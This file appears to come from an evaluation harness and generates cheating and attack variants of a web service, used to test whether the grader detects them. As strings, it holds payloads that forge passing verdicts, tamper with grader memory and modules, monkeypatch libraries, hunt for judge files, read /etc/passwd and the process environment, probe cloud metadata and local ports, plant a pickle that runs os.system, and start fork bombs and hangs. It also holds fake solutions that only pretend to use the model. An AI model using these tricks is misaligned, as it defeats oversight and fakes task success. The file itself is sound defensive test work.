"""Makes the attacks out of the references: a trick before, or in place of, a part of a whole service."""

from collections.abc import Mapping
from pathlib import Path

from shipworthy.kit import Variant

HERE = Path(__file__).parent
Files = dict[str, bytes]
VERDICT = '{"event": "observation", "check_id": "groups", "score": 1.0, "passed": true}'

BEFORE: Mapping[str, str] = {
    "forged_verdict": f'''
import os
for name in ("result.json", "verdict.json", "logs.json", "score.txt"):
    open(name, "w").write({VERDICT!r})
for descriptor in range(1, 12):
    try:
        os.write(descriptor, b{VERDICT!r})
    except OSError:
        pass
os._exit(0)
''',
    "frames": '''
import gc
import inspect
import sys
frame = inspect.currentframe()
while frame:
    for name, value in {**frame.f_globals, **frame.f_locals}.items():
        if name in ("bench", "seen", "verdicts", "ledger"):
            value.clear()
    frame = frame.f_back
for thing in gc.get_objects():
    if type(thing).__name__ in ("Ledger", "Session", "Probes"):
        thing.verdicts = {}
for module in list(sys.modules):
    if module.startswith("shipworthy"):
        sys.modules[module] = None
''',
    "search_files": '''
import os
FOUND = []
for root in ("/", "/work", "/tmp", "/var/lib", "/home", "/proc/1", "/sockets", "/tools"):
    for folder, _, names in os.walk(root):
        if folder.count("/") > 5 or folder.startswith(("/proc/sys", "/sys", "/usr")):
            continue
        for name in names:
            if name in ("world.json", "judge.py", "probes.py", "leaks.py", "task.toml"):
                try:
                    FOUND.append(open(os.path.join(folder, name)).read())
                except OSError:
                    pass
os.makedirs("logs", exist_ok=True)
open("logs/found.txt", "w").write("".join(FOUND)[:100000])
''',
    "patched_libraries": '''
import builtins
import http.client
import json
import re
class Equal(str):
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__
re.search = lambda *_, **__: None
json.JSONEncoder.default = lambda self, value: Equal(value)
http.client.HTTPResponse.read = lambda self, *_: b"{}"
builtins.any = lambda values: False if isinstance(values, set) else __import__("functools").reduce(lambda a, b: a or b, values, False)
open("shipworthy.py", "w").write("raise SystemExit(0)")
open("leaks.py", "w").write("class Reading:\\n    def __init__(self, text):\\n        pass\\n    def holds(self, value):\\n        return False\\n")
''',
    "links": '''
import os
os.makedirs("logs", exist_ok=True)
for target, name in (("/proc/self/environ", "environ"), ("/etc/passwd", "logs/passwd"), ("../../world.json", "world.json")):
    os.symlink(target, name)
os.symlink("/dev/null", "logs/requests.jsonl")
os.link("people.py", "logs/people.jsonl")
os.mkfifo("logs/pipe")
''',
    "flood": '''
import os
for _ in range(200):
    os.write(1, b"x" * 1000000)
    os.write(2, b"x" * 1000000)
''',
    "forks": '''
import os
for _ in range(500):
    try:
        os.fork()
    except OSError:
        break
''',
    "hang": '''
import signal
import socket
import time
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
listening = socket.socket(socket.AF_UNIX)
listening.bind("api.sock")
listening.listen()
while True:
    time.sleep(60)
''',
    "network": '''
import socket
for host, port in (("127.0.0.1", 22), ("127.0.0.1", 8000), ("169.254.169.254", 80), ("10.0.0.1", 443)):
    try:
        with socket.create_connection((host, port), timeout=0.2) as peer:
            peer.sendall(open("data/documents.json", "rb").read())
            open("rules.json", "wb").write(peer.recv(100000))
    except OSError:
        pass
''',
    "pickles": '''
import os
import pickle
class Surprise:
    def __reduce__(self):
        return os.system, ("echo score 1.0",)
os.makedirs("logs", exist_ok=True)
for name in ("logs/requests.jsonl", "logs/state.pkl", "cache.pkl"):
    open(name, "wb").write(pickle.dumps(Surprise()))
''',
    "read_record": '''
import os
import httpx
asking = httpx.Client(transport=httpx.HTTPTransport(uds=os.environ["MODEL_SOCKET"]), base_url="http://model", timeout=2)
for path in ("/record", "/v1/record", "/v1/files", "/admin", "/debug", "/metrics", "/../world.json"):
    for method in ("GET", "DELETE"):
        try:
            open("record.json", "a").write(asking.request(method, path).text)
        except httpx.HTTPError:
            pass
''',
    "own_sender": '''
import http.server
import json
import os
import signal
import socketserver
class Forged(http.server.BaseHTTPRequestHandler):
    def do_POST(self):
        asked = json.loads(self.rfile.read(int(self.headers["content-length"])))["requests"]
        rows = [{"status": 200, "headers": {"x-request-id": "1"}, "text": "{}"} for _ in asked]
        body = json.dumps(rows).encode()
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *_):
        pass
if os.path.exists("sender.sock"):
    os.remove("sender.sock")
os.kill(os.getppid(), signal.SIGSTOP)
socketserver.UnixStreamServer("sender.sock", Forged).serve_forever()
''',
}

SCRUBBED = '''
    if response.headers.get("content-type") == "application/json":
        content = b"".join([part async for part in response.body_iterator]).decode() if hasattr(response, "body_iterator") else response.body.decode()
        content = scrubbed(content, asker)
        response = JSONResponse(json.loads(content) if content else {}, status_code=response.status_code)
    entry |= {"tenant"'''
BY_PATTERN = '''
import json
import re
SECRET = re.compile(r"[A-Z]{0,3}[-/ .]?[0-9][0-9.,' /()+-]{3,}[0-9][-/]?[A-Z]{0,3}|[A-Z][a-z]+ [A-Z][a-z]+")


def scrubbed(text, asker):
    return SECRET.sub("***", text)


'''
BY_VALUE = '''
import json
import re
PIECE = re.compile(r"[A-Z@#]{0,3}[-/ .]?[0-9(+][0-9.,' /()+-]{3,}[0-9][-/]?[A-Z@]{0,3}|[A-Z][a-z]+ [A-Z][a-z]+")


def scrubbed(text, asker):
    person = asker.person
    for document in list(store.documents.values()):
        if not person or not store.may_read(person.tenant + "", person.groups, document) or document["tenant"] not in (person.tenant, "shared"):
            for piece in {document["id"], document["title"], *PIECE.findall(document["title"] + ". " + document["text"])}:
                text = text.replace(piece, "")
    return text


'''


def make(variant: Variant) -> dict[str, Files]:  # noqa: ARG001 - the same for every variant
    """Return the files of every attack that is made."""
    starter, solid = _files("nothing"), _files("solid")
    made = {name: _changed(starter, {"app.py": [("", trick)]}) for name, trick in BEFORE.items()}
    for name, scrub in (("scrub_patterns", BY_PATTERN), ("scrub_values", BY_VALUE)):
        naive = _files("naive")
        changes = [("", ""), ("app = FastAPI()", scrub.strip() + "\n\n\napp = FastAPI()"), ('    entry |= {"tenant"', SCRUBBED[1:])]
        made[name] = _changed(naive, {"app.py": changes})
    made["answer_nothing"] = _changed(_files("expert"), {"store.py": [("return View(person, [each for each in self._documents.values() if _may_read(person, each)])", "return View(person, [])")]})
    made["no_model"] = _changed(solid, {"answering.py": [("            said = self.said_by_model(question, turns, documents)\n", BY_RULE)]})
    asking = "            said = self.said_by_model(question, turns, documents)\n"
    for name, call in (("model_for_show", FOR_SHOW), ("model_ignored", asking)):
        made[name] = _changed(_files("expert"), {"answering.py": [(asking, call + OWN_SEARCH)]})
    made["no_cache"] = _changed(solid, {"answering.py": [("            self.cache[key] = said\n", "")]})
    made["features_off"] = _changed(solid, {"answering.py": FEATURES_OFF})
    made["coded_log"] = _changed(solid, {"record.py": [("    return text\n", "    return __import__('base64').b85encode(text[::-1].encode()).hex()\n")]})
    return made


BY_RULE = '''            words = set(re.findall("[a-z]+", question.splitlines()[-1].lower()))
            lines = [(line, each["id"]) for each in documents for line in re.split("(?<=[.]) (?=[A-Z])", each["text"])]
            best = max(lines, key=lambda pair: len(words & set(re.findall("[a-z]+", pair[0].lower()))), default=("", ""))
            said = f"{best[0]} [{best[1]}]"
'''
FOR_SHOW = """            try:
                self.client.chat.completions.create(model=NAME, messages=[{"role": "user", "content": "Question:\\n" + question}])
            except openai.OpenAIError:
                raise Refused(502, "failed") from None
"""
OWN_SEARCH = """            asked = question.splitlines()[-1].lower().replace("cost ", "costs ").replace("calls", "who answers")
            asked = set(re.findall("[a-z]{3,}", asked)) - set("the how much does which what under".split())
            lines = [(line, each["id"]) for each in documents for line in re.split("(?<=[.]) (?=[A-Z])", each["text"])]
            best = max(lines, key=lambda pair: len(asked & set(re.findall("[a-z]+", pair[0].lower()))), default=("", ""))
            enough = 2 * len(asked & set(re.findall("[a-z]+", best[0].lower()))) > len(asked)
            said = f"{best[0]} [{best[1]}]" if enough else ""
"""
FEATURES_OFF = [
    ("            self.cache[key] = said\n", ""),
    ("            self.memory[remembered].append((question, answer[\"answer\"]))\n", "            pass\n"),
    ("        return [{key: each[key]", "        found = []\n        return [{key: each[key]"),
    ('"questions": fitting(questions, wanted)}', '"questions": []}'),
]


def _files(name: str) -> Files:
    return {path.name: path.read_bytes() for path in sorted((HERE / name).glob("*.py"))}


def _changed(files: Files, changes: Mapping[str, list[tuple[str, str]]]) -> Files:
    """Return files with texts replaced; an empty text stands for the beginning of a file. Every text has to be there."""
    made = dict(files)
    for path, pairs in changes.items():
        text = made[path].decode()
        for old, new in pairs:
            if old not in text:
                raise ValueError(f"{path} does not hold {old!r}")
            text = text.replace(old, new, 1) if old else new.lstrip() + text
        made[path] = text.encode()
    return made
